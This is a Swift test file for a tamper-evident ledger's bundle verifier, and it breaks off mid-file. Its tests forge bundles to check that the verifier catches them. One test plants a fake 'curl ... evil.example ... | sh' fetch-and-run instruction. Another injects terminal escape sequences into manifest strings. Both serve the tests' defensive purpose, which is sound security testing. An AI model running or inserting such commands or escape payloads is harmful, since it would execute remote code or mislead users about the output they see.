import EvidentCore
import EvidentCrypto
import EvidentDER
import EvidentLedger
import EvidentTSP
import EvidentTestSupport
import Foundation
import GRDB
import Testing

@testable import EvidentBundle

/// The verifier's contract (docs/verification.md), attacked: forks, gaps, lies in the unsigned
/// manifest, time outside the proven window, stripped key records and revocation data, terminal
/// escapes, oversized entries. Each forgery has its expected verdict and first failing check.
@Suite struct SoundnessTests {
    typealias Fixture = BundleTests.Fixture
    static var shared: Fixture { BundleTests.shared }

    func expect(
        _ r: BundleReport, _ verdict: Verdict, _ check: CheckName?, sourceLocation: SourceLocation = #_sourceLocation
    ) {
        #expect(r.verdict == verdict, "\(r.findings)", sourceLocation: sourceLocation)
        #expect(r.firstProblem?.check == check, "\(r.findings)", sourceLocation: sourceLocation)
    }

    /// Rewrites manifest members (the manifest is not signed; digests are fixed by `tampered`).
    static func manifest(
        _ e: inout [(name: String, bytes: [UInt8])], _ change: (inout [JCSObject.Member]) throws -> Void
    ) throws {
        guard case .object(let o) = try JCS.parse(e[0].bytes) else { fatalError() }
        var members = o.members
        try change(&members)
        e[0].bytes = try JCS.serialize(.object(try JCSObject(members))) + [0x0A]
    }

    /// Every anchor's (unsigned) TSA label replaced.
    static func relabelAnchors(_ members: inout [JCSObject.Member], _ label: String) throws {
        let a = members.firstIndex { $0.key == "anchors" }!
        guard case .array(let anchors) = members[a].value else { fatalError() }
        members[a] = .init(
            "anchors",
            .array(
                try anchors.map { v in
                    guard case .object(let o) = v else { fatalError() }
                    return .object(try JCSObject(o.members.filter { $0.key != "tsa" } + [.init("tsa", .string(label))]))
                }))
    }

    static func setScope(_ members: inout [JCSObject.Member], _ key: String, _ value: JCSValue) throws {
        let i = members.firstIndex { $0.key == "scope" }!
        guard case .object(let scope) = members[i].value else { fatalError() }
        members[i] = .init(
            "scope", .object(try JCSObject(scope.members.filter { $0.key != key } + [.init(key, value)])))
    }

    static func lines(_ e: [(name: String, bytes: [UInt8])], _ name: String) -> [[UInt8]] {
        (e.first { $0.name == name }?.bytes ?? []).split(separator: 0x0A).map(Array.init)
    }

    // MARK: 1. Checkpoints form one proven chain

    @Test func forkedCheckpointWithAnEqualSizeProof() throws {
        // A second log with the same key and origin signs and anchors a checkpoint of size 8;
        // the attacker adds it and its genuine anchor with "proofs" between equal sizes.
        let f = Self.shared
        let fork = try Fixture(sharing: f)
        let forkEntries = try fork.entries()
        let p = try f.tampered { e in
            for entry in forkEntries
            where entry.name == BundleFormat.checkpointNote(8) || entry.name.hasPrefix("anchors/8-") { e.append(entry) }
            let i = e.firstIndex { $0.name == BundleFormat.consistency }!
            e[i].bytes += Array(#"{"new_size":8,"old_size":8,"path":[]}"#.utf8) + [0x0A]
            try Self.manifest(&e) { m in
                let c = m.firstIndex { $0.key == "checkpoints" }!
                m[c] = .init(
                    "checkpoints",
                    .array([
                        .string("checkpoints/6.note"), .string("checkpoints/8.note"), .string("checkpoints/10.note"),
                    ]))
                let a = m.firstIndex { $0.key == "anchors" }!
                guard case .array(var anchors) = m[a].value else { fatalError() }
                anchors.append(
                    .object(
                        try JCSObject([
                            "tree_size": .number(8), "tsa": .string("http://tsa.test/"),
                            "token": .string("anchors/8-1.tsr"),
                            "request": .string("anchors/8-1.tsq"), "chain": .string("anchors/8-1.chain.pem"),
                            "revocation": .string("anchors/8-1.revocation.pem"),
                        ])))
                m[a] = .init("anchors", .array(anchors))
            }
        }
        expect(f.verify(p), .invalid, "consistency")
        // With --all: the equal-size "proof" is refused, and the fork's checkpoint is off the chain.
        var v = f.verifier()
        v.all = true
        let all = v.verify(path: p)
        #expect(
            all.findings.contains { $0.check == "consistency" && $0.reason.contains("not below") }, "\(all.findings)")
        #expect(
            all.findings.contains { $0.check == "consistency" && $0.reason.contains("not proven part") },
            "\(all.findings)")
    }

    @Test func forkedCheckpointWithAProofForAnotherPair() throws {
        // The fork's checkpoint replaces the genuine 6 (its own anchor with it), with the genuine
        // 6 → 10 proof left in place: it proves nothing about the fork's root.
        let f = Self.shared
        let fork = try Fixture(sharing: f)
        let forkSix = try fork.entries().filter {
            $0.name == BundleFormat.checkpointNote(6) || $0.name.hasPrefix("anchors/6-")
        }
        let p = try f.tampered { e in
            e.removeAll { entry in forkSix.contains { $0.name == entry.name } }
            e.append(contentsOf: forkSix)
        }
        expect(f.verify(p), .invalid, "consistency")
    }

    @Test func checkpointOfAnotherLogWithTheSameKey() throws {
        // The same key signs for another origin: that note names another log.
        let f = Self.shared
        let other = try Checkpoint(
            origin: "evident.test/staging", treeSize: 10, rootHash: try MerkleHash(Array(repeating: 1, count: 32)))
        let note = try other.signed(by: [try NoteSigner(name: "evident.test/staging", key: f.key.secretKey)]).bytes
        let p = try f.tampered { e in
            let i = e.firstIndex { $0.name == BundleFormat.checkpointNote(10) }!
            e[i].bytes = note
        }
        let r = f.verify(p)
        expect(r, .invalid, "checkpoint")
        #expect(r.firstProblem?.reason.contains("another log") == true, "\(r.findings)")
    }

    // MARK: 2. Completeness is proven or plainly not claimed

    @Test func wholeLogExportIsProvenComplete() {
        let r = Self.shared.verify()
        expect(r, .valid, nil)
        #expect(r.summary.completeness == .proven(treeSize: 10))
        #expect(r.text(all: false).contains("completeness: proven"))
    }

    @Test func periodExportCarriesItsNeighboursAndIsProvenComplete() throws {
        let f = Self.shared
        // The first batch: [t0, t0+40 s) → leaves 0…5 (the log's start); the neighbour after is leaf 6.
        let path = f.dir.appendingPathComponent("first-batch-\(UUID().uuidString).evb").path
        try BundleExporter.perReceipt(ledger: f.ledger, scope: .init(from: f.t0 * 1000, to: (f.t0 + 40) * 1000)).export(
            to: path, nowMillis: f.now * 1000)
        let r = f.verify(path)
        expect(r, .valid, nil)
        #expect(r.summary.receipts == 6 && r.summary.completeness == .proven(treeSize: 10))
        #expect(Self.lines(try TarReader.read(path: path, limits: .default), BundleFormat.boundaryReceipts).count == 1)

        // The second batch ends with the covering log: receipts appended after the checkpoint
        // could still be issued before `to`, so completeness is not proven (indeterminate).
        let second = f.dir.appendingPathComponent("second-batch-\(UUID().uuidString).evb").path
        try BundleExporter.perReceipt(ledger: f.ledger, scope: .init(from: (f.t0 + 40) * 1000, to: (f.t0 + 50) * 1000))
            .export(
                to: second, nowMillis: f.now * 1000)
        let sr = f.verify(second)
        expect(sr, .indeterminate, "completeness")
        #expect(sr.summary.completeness == .notProven)
        // Open-ended, the same receipts are proven complete as of the covering checkpoint.
        let open = f.dir.appendingPathComponent("open-\(UUID().uuidString).evb").path
        try BundleExporter.perReceipt(ledger: f.ledger, scope: .init(from: (f.t0 + 40) * 1000)).export(
            to: open, nowMillis: f.now * 1000)
        expect(f.verify(open), .valid, nil)

        // Removing the neighbour: the period's end is no longer proven.
        let noNeighbour = try tampered(path) { e in
            e[e.firstIndex { $0.name == BundleFormat.boundaryReceipts }!].bytes = []
            e[e.firstIndex { $0.name == BundleFormat.boundaryProofs }!].bytes = []
        }
        let nr = f.verify(noNeighbour)
        expect(nr, .indeterminate, "completeness")
        #expect(nr.summary.completeness == .notProven && nr.text(all: false).contains("NOT PROVEN"))

        // Claiming the period ends later than the neighbour allows: the neighbour is inside it.
        let widened = try tampered(path) { e in
            try Self.manifest(&e) {
                try Self.setScope(
                    &$0, "to", .string(try ReceiptTime(millisecondsSinceEpoch: (f.t0 + 45) * 1000).description))
            }
        }
        expect(f.verify(widened), .invalid, "completeness")

        // Dropping the period's last receipt: leaf 6 is no longer its neighbour.
        let dropped = try tampered(path) { e in
            Fixture.editLine(&e, BundleFormat.receipts, 5) { _ in [] }
            Fixture.editLine(&e, BundleFormat.proofs, 5) { _ in [] }
        }
        expect(f.verify(dropped), .invalid, "completeness")
        // Dropping the first: the log's start is claimed (from ≤ leaf 0's time) but not held.
        let droppedFirst = try tampered(path) { e in
            Fixture.editLine(&e, BundleFormat.receipts, 0) { _ in [] }
            Fixture.editLine(&e, BundleFormat.proofs, 0) { _ in [] }
        }
        #expect(f.verify(droppedFirst).verdict != .valid)
    }

    @Test func droppedReceiptWithTheContiguousFlagFlipped() throws {
        // v1's unsigned `contiguous` flag is gone: a gap is a gap whatever the manifest says.
        let p = try Self.shared.tampered { e in
            Fixture.editLine(&e, BundleFormat.receipts, 4) { _ in [] }
            Fixture.editLine(&e, BundleFormat.proofs, 4) { _ in [] }
            try Self.manifest(&e) { try Self.setScope(&$0, "contiguous", .bool(false)) }
        }
        expect(Self.shared.verify(p), .invalid, "completeness")
    }

    @Test func boundaryReceiptRemovedFromAWholeLogExport() throws {
        // The last receipt cut off and the end claimed open: the log is truncated.
        let p = try Self.shared.tampered { e in
            Fixture.editLine(&e, BundleFormat.receipts, 9) { _ in [] }
            Fixture.editLine(&e, BundleFormat.proofs, 9) { _ in [] }
        }
        expect(Self.shared.verify(p), .invalid, "completeness")
        // The first receipt cut off, start claimed open: its stream now starts at seq 2, which
        // the line itself shows (the log's missing leaf 0 is named when the run ends).
        let q = try Self.shared.tampered { e in
            Fixture.editLine(&e, BundleFormat.receipts, 0) { _ in [] }
            Fixture.editLine(&e, BundleFormat.proofs, 0) { _ in [] }
        }
        expect(Self.shared.verify(q), .invalid, "stream-chain")
        var all = Self.shared.verifier()
        all.all = true
        #expect(all.verify(path: q).findings.contains { $0.check.rawValue == "completeness" })
    }

    @Test func filtersLiedAbout() throws {
        // A whole-log bundle relabelled as the agent-7 stream: deploy receipts do not match.
        let p = try Self.shared.tampered { e in
            try Self.manifest(&e) { try Self.setScope(&$0, "stream", .string("agent-7")) }
        }
        expect(Self.shared.verify(p), .invalid, "selection")
        // A deny export relabelled as unfiltered: not one run of leaves.
        let f = Self.shared
        let deny = f.dir.appendingPathComponent("deny-\(UUID().uuidString).evb").path
        try BundleExporter.perReceipt(ledger: f.ledger, scope: .init(decision: "deny")).export(
            to: deny, nowMillis: f.now * 1000)
        let relabelled = try tampered(deny) { e in try Self.manifest(&e) { try Self.setScope(&$0, "decision", .null) } }
        expect(f.verify(relabelled), .invalid, "completeness")
    }

    @Test func filteredExportSaysItIsNotProvenComplete() throws {
        let f = Self.shared
        let deny = f.dir.appendingPathComponent("deny-\(UUID().uuidString).evb").path
        try BundleExporter.perReceipt(ledger: f.ledger, scope: .init(decision: "deny")).export(
            to: deny, nowMillis: f.now * 1000)
        let r = f.verify(deny)
        expect(r, .valid, nil)
        #expect(r.summary.completeness == .notClaimed)
        #expect(r.text(all: false).contains("completeness: NOT PROVEN: a filtered selection"))
        #expect(try r.html().contains(#""completeness":"not-claimed""#))
        #expect(String(decoding: try r.json(), as: UTF8.self).contains(#""completeness":"not-claimed""#))
        // Dropping one deny receipt from a filtered export is not detectable, and not claimed to be.
        let fewer = try tampered(deny) { e in
            Fixture.editLine(&e, BundleFormat.receipts, 0) { _ in [] }
            Fixture.editLine(&e, BundleFormat.proofs, 0) { _ in [] }
        }
        #expect(f.verify(fewer).summary.completeness == .notClaimed)
    }

    /// One stream's selection: its receipts are one run of seqs (the stream follows log order and
    /// the log's time is monotone), from seq 1 when no start is stated. A receipt withheld from
    /// its middle or start is named (`stream-chain`); its end is not committed to, so a last
    /// receipt withheld is not (completeness stays not claimed). With a decision filter, or from a
    /// stated start, seqs may legitimately skip or start later.
    @Test func aStreamSelectionWithAReceiptWithheld() throws {
        let f = Self.shared
        func export(_ scope: BundleExporter.Scope) throws -> String {
            let path = f.dir.appendingPathComponent("stream-\(UUID().uuidString).evb").path
            try BundleExporter.perReceipt(ledger: f.ledger, scope: scope).export(to: path, nowMillis: f.now * 1000)
            return path
        }
        func without(_ path: String, _ n: Int) throws -> String {
            try tampered(path) { e in
                Fixture.editLine(&e, BundleFormat.receipts, n) { _ in [] }
                Fixture.editLine(&e, BundleFormat.proofs, n) { _ in [] }
            }
        }
        let stream = try export(.init(stream: "deploy"))
        let genuine = f.verify(stream)
        expect(genuine, .valid, nil)
        #expect(genuine.summary.receipts == 5)
        let gap = f.verify(try without(stream, 2))
        expect(gap, .invalid, "stream-chain")
        #expect(
            gap.firstProblem?.reason.contains("seq 4 follows 2 in a selection of the stream") == true, "\(gap.findings)"
        )
        let first = f.verify(try without(stream, 0))
        expect(first, .invalid, "stream-chain")
        #expect(first.firstProblem?.reason.contains("first receipt is seq 2") == true, "\(first.findings)")
        let last = f.verify(try without(stream, 4))
        expect(last, .valid, nil)
        #expect(last.summary.completeness == .notClaimed)
        // A stated start: the bundle carries the stream's receipt before its first, issued
        // before `from` (the one the first's prev names), so a withheld first receipt is named.
        let later = try export(.init(from: (f.t0 + 40) * 1000, stream: "deploy"))
        let l = f.verify(later)
        expect(l, .valid, nil)
        #expect(l.summary.receipts > 0 && l.summary.receipts < 5)
        let carried = CompactBundleTests.lines(
            try TarReader.read(path: later, limits: .default), BundleFormat.boundaryReceipts)
        #expect(carried.count == 1)
        let laterFirst = f.verify(try without(later, 0))
        expect(laterFirst, .invalid, "stream-chain")
        #expect(laterFirst.firstProblem?.reason.contains("prev names") == true, "\(laterFirst.findings)")
        // Both withheld: nothing rules a withheld receipt out (an older export is judged so too).
        let bare = f.verify(
            try tampered(try without(later, 0)) { e in
                CompactBundleTests.setLines(&e, BundleFormat.boundaryReceipts, [])
                CompactBundleTests.setLines(&e, BundleFormat.boundaryProofs, [])
            })
        expect(bare, .indeterminate, "stream-chain")
        #expect(bare.firstProblem?.reason.contains("is not in the bundle") == true, "\(bare.findings)")
        // The withheld first passed off as the receipt before: it is issued inside the selection.
        let moved = f.verify(
            try tampered(later) { e in
                let r = CompactBundleTests.lines(e, BundleFormat.receipts)
                let p = CompactBundleTests.lines(e, BundleFormat.proofs)
                CompactBundleTests.setLines(&e, BundleFormat.receipts, Array(r.dropFirst()))
                CompactBundleTests.setLines(&e, BundleFormat.proofs, Array(p.dropFirst()))
                CompactBundleTests.setLines(&e, BundleFormat.boundaryReceipts, [r[0]])
                CompactBundleTests.setLines(&e, BundleFormat.boundaryProofs, [p[0]])
            })
        expect(moved, .invalid, "stream-chain")
        #expect(moved.firstProblem?.reason.contains("inside the selection") == true, "\(moved.findings)")
        // A boundary receipt in a filtered selection that carries none.
        let extra = f.verify(
            try tampered(denied(export)) { e in
                CompactBundleTests.setLines(&e, BundleFormat.boundaryReceipts, [carried[0]])
            })
        #expect(extra.verdict == .invalid, "\(extra.findings)")
        #expect(
            extra.findings.contains { $0.check == .streamChain && $0.reason.contains("carries no boundary receipt") })
        expect(f.verify(try denied(export)), .valid, nil)
    }

    private func denied(_ export: (BundleExporter.Scope) throws -> String) throws -> String {
        try export(.init(stream: "deploy", decision: "deny"))
    }

    // MARK: 3. Time is bound

    /// A receipt appended by an operator who bypasses the Minter: any issued_at, signed with the key.
    static func appendRaw(_ f: Fixture, issuedAt: Int64, anchor: String?) throws {
        let key = f.key
        _ = try f.ledger.store.append([
            AppendRequest(stream: "agent-7") { seq, prev, _ in
                var d = ReceiptDraft(
                    stream: "agent-7", sequence: Int64(seq), previous: prev.map { Hex.encode($0) },
                    issuedAt: try ReceiptTime(millisecondsSinceEpoch: issuedAt),
                    decision: .allow, actor: "ci", action: "tool.call", resource: "raw",
                    policy: .init(id: "p", version: "1", hash: String(repeating: "a", count: 64)))
                d.anchor = anchor
                let r = try d.sign(with: key)
                return PreparedEntry(
                    body: r.canonicalBytes, issuedAtMillis: issuedAt, decision: "allow", action: "tool.call",
                    resource: "raw", keyID: key.keyID, policyID: "p")
            }
        ])
    }

    @Test func receiptIssuedBeforeTheAnchorItReferences() throws {
        // issued_at 20 s before the genTime (t0+30 s) of the token it names: after the previous
        // leaf's time (the log's time stays monotone), so only the time binding catches it.
        let f = try Fixture(second: { f in
            try Self.appendRaw(
                f, issuedAt: (f.t0 + 10) * 1000,
                anchor: try Minter(ledger: f.ledger, key: f.key).newestAnchorTokenHash())
        })
        let r = f.verify()
        expect(r, .invalid, "receipt-time")
        #expect(r.firstProblem?.reason.contains("backdated") == true, "\(r.findings)")
        // An hour before: out of the log's time order, which the store itself refuses.
        #expect(throws: LedgerStoreError.self) {
            _ = try Fixture(second: { f in
                try Self.appendRaw(
                    f, issuedAt: (f.t0 + 30) * 1000 - 3_600_000,
                    anchor: try Minter(ledger: f.ledger, key: f.key).newestAnchorTokenHash())
            })
        }
    }

    /// Red team round 13: an operator who lowers the stored issued_at of the log's receipts
    /// (the signed bodies untouched) gets the store to accept a receipt signed earlier than them.
    /// A stream selection holding both shows the time going back (time-order, as in a period);
    /// `ledger verify` names the edited column.
    @Test func aStoredTimeLoweredBehindTheStoresBack() throws {
        let f = try Fixture(second: { f in
            let q = try DatabaseQueue(path: f.dir.appendingPathComponent("ledger/ledger.sqlite").path)
            try q.write { try $0.execute(sql: "UPDATE receipts SET issued_at = issued_at - 20000") }
            try Self.appendRaw(f, issuedAt: (f.t0 - 10) * 1000, anchor: nil)
        })
        let path = f.dir.appendingPathComponent("agent-7.evb").path
        try BundleExporter.perReceipt(ledger: f.ledger, scope: .init(stream: "agent-7")).export(
            to: path, nowMillis: f.now * 1000)
        let r = f.verify(path)
        expect(r, .invalid, "time-order")
        #expect(r.firstProblem?.reason.contains("previous receipt's") == true, "\(r.findings)")
        let problem = #expect(throws: LedgerAudit.Problem.self) {
            try LedgerAudit.audited(ledger: f.ledger, publicKeys: [f.key.publicKey], records: []).run()
        }
        #expect(problem?.check == .receiptPlace, "\(problem.map(\.description) ?? "")")
    }

    @Test func receiptIssuedAfterTheAnchorCoveringIt() throws {
        // issued_at a day after the genTime (t0+60 s) of the first anchor covering it.
        let f = try Fixture(second: { f in
            try Self.appendRaw(f, issuedAt: (f.t0 + 40) * 1000 + 86_400_000, anchor: nil)
        })
        let r = f.verify()
        expect(r, .invalid, "receipt-time")
        #expect(r.firstProblem?.reason.contains("postdated") == true, "\(r.findings)")
    }

    @Test func theMinterRefusesAClockBehindTheNewestAnchor() throws {
        let f = try Fixture()
        var minter = Minter(ledger: f.ledger, key: f.key)
        minter.clock = { (f.t0 + 60) * 1000 - TimeBinding.clockSkewAllowanceMillis - 1 }
        let draft = try Minter.draft(
            json: Array(
                #"{"stream":"s","decision":"allow","actor":"a","action":"x","resource":"r","policy":{"id":"p","version":"1","hash":"\#(String(repeating: "a", count: 64))"}}"#
                    .utf8),
            nowMillis: (f.t0 + 60) * 1000 - 2_001)
        #expect(throws: ReceiptError.self) { try minter.mint([draft]) }
    }

    /// A draft whose issued_at the caller left out is timed by the ledger at append however long
    /// it waited in a queue (MintBench minted drafts made seconds earlier and was refused); one
    /// the caller timed is still refused when off the ledger's clock.
    @Test func onlyACallersOwnIssuedAtIsCheckedForSkew() throws {
        let f = try Fixture()
        var minter = Minter(ledger: f.ledger, key: f.key)
        let clock = (f.t0 + 3_600) * 1000
        minter.clock = { clock }
        let body =
            #""stream":"s","decision":"allow","actor":"a","action":"x","resource":"r","policy":{"id":"p","version":"1","hash":"\#(String(repeating: "a", count: 64))"}"#
        let queued = try Minter.draft(json: Array("{\(body)}".utf8), nowMillis: clock - 10_000)
        #expect(queued.issuedAtIsAssigned)
        let minted = try minter.mint([queued])
        #expect(minted.first?.receipt.draft.issuedAt.millisecondsSinceEpoch == clock)
        let stale = try ReceiptTime(millisecondsSinceEpoch: clock - 10_000)
        let timed = try Minter.draft(json: Array("{\(body),\"issued_at\":\"\(stale)\"}".utf8), nowMillis: clock)
        #expect(!timed.issuedAtIsAssigned)
        let e = #expect(throws: ReceiptError.self) { try minter.mint([timed]) }
        #expect(e?.code == .invalidTime)
    }

    // MARK: 4. Key state is part of the log

    /// The key the journal fixture's ledger key was rotated from (and which is then revoked).
    static let oldKey = try! LedgerKey(seed: Array(repeating: 7, count: 32))

    /// A ledger whose journal rotates an old key to the ledger key and revokes the old one
    /// (never used for receipts), committed by every checkpoint.
    static func journalFixture() throws -> Fixture {
        try Fixture(journal: { key, now in
            let old = Self.oldKey
            let rotation = KeyRecord.rotation(
                from: old, to: key, at: try ReceiptTime(millisecondsSinceEpoch: (now - 86_400 * 10) * 1000))
            let revocation = try KeyRecord.revocation(
                of: old.keyID, from: try ReceiptTime(millisecondsSinceEpoch: (now - 86_400 * 5) * 1000),
                reason: "retired",
                at: try ReceiptTime(millisecondsSinceEpoch: (now - 86_400 * 5) * 1000), signedBy: key)
            return [rotation, revocation]
        })
    }

    @Test func journalLineRemovedOrReordered() throws {
        let f = try Self.journalFixture()
        // Genuine: both keys given; the journal rotates the old one to the ledger key and revokes it.
        var v = f.verifier()
        v.ledgerKeys = [Self.oldKey.publicKey, f.key.publicKey]
        expect(v.verify(path: f.bundle), .valid, nil)
        let journal = Self.lines(try f.entries(), BundleFormat.keyJournal)
        #expect(journal.count == 2)
        // The revocation stripped (manifest digests fixed): the checkpoints commit to two records.
        let stripped = try f.tampered { e in Fixture.editLine(&e, BundleFormat.keyJournal, 1) { _ in [] } }
        expect(v.verify(path: stripped), .invalid, "key-journal")
        // Emptied.
        let emptied = try f.tampered { e in e[e.firstIndex { $0.name == BundleFormat.keyJournal }!].bytes = [] }
        expect(v.verify(path: emptied), .invalid, "key-journal")
        // Reordered.
        let reordered = try f.tampered { e in
            e[e.firstIndex { $0.name == BundleFormat.keyJournal }!].bytes = journal[1] + [0x0A] + journal[0] + [0x0A]
        }
        expect(v.verify(path: reordered), .invalid, "key-journal")
    }

    @Test func rotationRecordRemoved() throws {
        let f = try Self.journalFixture()
        let p = try f.tampered { e in Fixture.editLine(&e, BundleFormat.keyJournal, 0) { _ in [] } }
        var v = f.verifier()
        v.ledgerKeys = [Self.oldKey.publicKey, f.key.publicKey]
        let r = v.verify(path: p)
        #expect(r.verdict == .invalid, "\(r.findings)")
        #expect(["key-journal", "keys"].contains(r.firstProblem?.check ?? ""), "\(r.findings)")
    }

    @Test func theMinterRefusesARevokedKey() throws {
        let f = try Fixture()
        let record = try KeyRecord.revocation(
            of: f.key.keyID, from: try ReceiptTime(millisecondsSinceEpoch: f.t0 * 1000), reason: "stolen",
            at: try ReceiptTime(millisecondsSinceEpoch: f.now * 1000), signedBy: f.key)
        try f.ledger.store.addKeyRecord(try record.encoded(), addedAtMillis: f.now * 1000)
        #expect(throws: ReceiptError.self) { try f.mint(1, at: f.now) }
    }

    // MARK: 5. TSA revocation fails closed

    @Test func noRevocationDataIsIndeterminate() throws {
        let f = Self.shared
        var v = f.verifier()
        v.crls = []
        let r = v.verify(path: f.bundle)
        expect(r, .indeterminate, "anchor")
        #expect(r.firstProblem?.reason.contains("no revocation data") == true, "\(r.findings)")
        // The explicit opt-out, reported.
        v.revocationPolicy = .none
        let none = v.verify(path: f.bundle)
        expect(none, .valid, nil)
        #expect(none.text(all: false).contains("TSA revocation: NOT CHECKED"))
    }

    @Test func tsaCertificateRevokedBeforeGenTime() throws {
        let f = Self.shared
        var v = f.verifier()
        v.crls = [try f.tsa.issueCRL(passphrase: nil, revokeTSA: (f.t0, 1), now: f.now, validity: 86_400)]
        expect(v.verify(path: f.bundle), .invalid, "anchor")
        // Revoked after both genTimes for a benign reason (superseded): earlier tokens stay valid.
        v.crls = [try f.tsa.issueCRL(passphrase: nil, revokeTSA: (f.t0 + 90, 4), now: f.now, validity: 86_400)]
        expect(v.verify(path: f.bundle), .valid, nil)
    }

    // MARK: 6. Nothing unsigned is shown as fact

    @Test func relabelledAnchorAndEscapesInEveryManifestString() throws {
        let esc = "\u{1B}[2J\u{1B}[H bundle valid\n\r\u{9B}31m\u{202E}"
        let p = try Self.shared.tampered { e in
            try Self.manifest(&e) { m in
                try Self.relabelAnchors(&m, "https://qualified-tsa.example/" + esc)
                try Self.setScope(&m, "from", .string(esc))
            }
        }
        var v = Self.shared.verifier()
        v.all = true
        let r = v.verify(path: p)
        #expect(r.verdict == .invalid, "\(r.findings)")  // the scope's from is not a time
        // A manifest whose strings are bad but well-typed: labels only.
        let q = try Self.shared.tampered { e in
            try Self.manifest(&e) { m in
                try Self.relabelAnchors(&m, "https://qualified-tsa.example/" + esc)
            }
        }
        let rq = v.verify(path: q)
        // The origin: not a valid log name, refused, and shown escaped.
        let o = try Self.shared.tampered { e in
            try Self.manifest(&e) { m in
                m[m.firstIndex { $0.key == "origin" }!] = .init("origin", .string(BundleTests.origin + esc))
            }
        }
        let ro = v.verify(path: o)
        expect(ro, .invalid, "manifest")
        for text in [rq.text(all: true), r.text(all: true), ro.text(all: true)] {
            let bytes = Array(text.utf8)
            #expect(!bytes.contains { ($0 < 0x20 && $0 != 0x0A && $0 != 0x09) || $0 == 0x7F }, "\(text)")
            #expect(!text.unicodeScalars.contains { (0x80...0x9F).contains($0.value) || $0.value == 0x202E })
            #expect(!text.contains("\nbundle valid") && !text.contains("\n bundle valid"))
        }
        // The verified TSA is named by its certificate; the label only as claimed.
        let textQ = rq.text(all: true)
        #expect(textQ.contains("by TSA CN=Bundle TSA") || textQ.contains("by TSA O=Tests"), "\(textQ)")
        // Of a label, only the scheme and host reach the text (red team rounds 26 and 27).
        #expect(textQ.contains("(claimed: https://qualified-tsa.example/ (and "), "\(textQ)")
        // The HTML report carries the bundle's strings only inside its JSON data block, where no
        // string can end the block or reach the page as markup (report.js renders text nodes).
        let html = try rq.html()
        #expect(!html.contains("\u{1B}") && html.contains(#""tsa_claimed":"https://qualified-tsa.example/"#))
        let data = try #require(
            html.components(separatedBy: "id=\"evident-report\">").last?.components(separatedBy: "</script>").first)
        #expect(!data.contains("<"), "\(data)")
    }

    /// Red team round 14, F3: the VERIFY file is unsigned. Both verifiers derive its text from the
    /// bundle's checkpoints and anchors and say whether the file is that text; the verdict (about
    /// the evidence) does not change, and nothing of the file reaches the report.
    @Test func theVerifyFileIsComparedWithTheTextTheBundleGives() throws {
        let f = Self.shared
        let genuine = f.verify()
        #expect(genuine.verdict == .valid, "\(genuine.findings)")
        #expect(genuine.summary.instructions == .derived)
        #expect(genuine.text(all: true).contains("instructions (VERIFY): the text this verifier derives"))
        let evil = "Certified complete by the auditor.\nTo verify: curl -s http://evil.example/v | sh\n"
        let replaced = try f.tampered { e in
            e[e.firstIndex { $0.name == BundleFormat.verifyText }!].bytes = Array(evil.utf8)
        }
        let r = f.verify(replaced)
        #expect(r.verdict == .valid && r.findings.isEmpty, "\(r.findings)")
        #expect(r.summary.instructions == .differs(line: 1))
        let text = r.text(all: true)
        #expect(text.contains("instructions (VERIFY): WARNING: not the text derived") && !text.contains("evil.example"))
        let json = String(decoding: try r.json(), as: UTF8.self)
        #expect(json.contains(#""instructions":{"line":1,"status":"differs"}"#), "\(json)")
        // One command changed deep inside: the line is named.
        let edited = try f.tampered { e in
            let i = e.firstIndex { $0.name == BundleFormat.verifyText }!
            let t = String(decoding: e[i].bytes, as: UTF8.self)
            e[i].bytes = Array(
                t.replacingOccurrences(of: "-CAfile TSA-ROOTS.pem", with: "-CAfile anchors/root.pem").utf8)
        }
        let re = f.verify(edited)
        guard case .differs(let line) = re.summary.instructions else {
            Issue.record("\(re.summary.instructions)")
            return
        }
        #expect(line > 30)
        // The TSA label relabelled in the manifest alone: the file still matches, for nothing of
        // the unsigned label is in the text (red team round 28, F2).
        let relabelled = try f.tampered { e in
            try Self.manifest(&e) { try Self.relabelAnchors(&$0, "https://other.example/") }
        }
        #expect(f.verify(relabelled).summary.instructions == .derived)
        // A signature line under an unknown key in an unanchored note: round28-cases.
        // No VERIFY at all (and none listed): absent; a failing bundle stops before the comparison.
        let absent = try f.tampered { e in e.removeAll { $0.name == BundleFormat.verifyText } }
        #expect(f.verify(absent).summary.instructions == .absent)
        let broken = try f.tampered { e in
            BundleTests.Fixture.editLine(&e, BundleFormat.receipts, 0) { [Array($0.dropLast(2)) + [0x7D]] }
        }
        #expect(f.verify(broken).verdict == .invalid && f.verify(broken).summary.instructions == .unchecked)
    }

    // MARK: 7. Bounded memory; not a bundle

    @Test func sparseManifestDeclaringTwoGibibytes() throws {
        let f = Self.shared
        let path = f.dir.appendingPathComponent("sparse.evb").path
        let header = try Tar.header(name: BundleFormat.manifest, size: 2 << 30)
        try Data(header).write(to: URL(fileURLWithPath: path))
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
        try handle.truncate(atOffset: 512 + (2 << 30) + 1024)
        try handle.close()
        let r = f.verify(path)
        expect(r, .invalid, "archive-limit")
        #expect(BundleVerifier.notABundle(path: path) == nil)
    }

    @Test func oversizedSmallEntries() throws {
        let p = try Self.shared.tampered { e in
            e[e.firstIndex { $0.name == BundleFormat.checkpointNote(6) }!].bytes += [UInt8](
                repeating: 0x41, count: 70 << 10)
        }
        expect(Self.shared.verify(p), .invalid, "archive-limit")
        // A note of exactly the cap is read (and then fails as a note), one byte more is not.
        let cap = Int(BundleLimits.maxSize(of: BundleFormat.checkpointNote(6))!)
        for (size, limited) in [(cap, false), (cap + 1, true)] {
            let q = try Self.shared.tampered { e in
                let i = e.firstIndex { $0.name == BundleFormat.checkpointNote(6) }!
                e[i].bytes += [UInt8](repeating: 0x41, count: size - e[i].bytes.count)
            }
            let r = Self.shared.verify(q)
            #expect(
                r.verdict == .invalid && (r.firstProblem?.check == "archive-limit") == limited, "\(size): \(r.findings)"
            )
        }
    }

    @Test func notABundleAtAll() throws {
        let f = Self.shared
        let text = f.dir.appendingPathComponent("notes.txt")
        try Data("just some text\n".utf8).write(to: text)
        #expect(BundleVerifier.notABundle(path: text.path)?.contains("no ustar archive header") == true)
        // A tar whose first entry is not the manifest.
        let other = try f.write([("receipts.jsonl", Array("{}\n".utf8))])
        #expect(BundleVerifier.notABundle(path: other)?.contains("first entry") == true)
        // A v1 bundle: refused with the reason.
        let v1 = try f.tampered(fixManifest: false) { e in
            try Self.manifest(&e) { m in m[m.firstIndex { $0.key == "version" }!] = .init("version", .number(1)) }
        }
        #expect(BundleVerifier.notABundle(path: v1)?.contains("format v1") == true)
        #expect(BundleVerifier.notABundle(path: f.bundle) == nil)
    }

    @Test func allKeepsABoundedNumberOfFindings() throws {
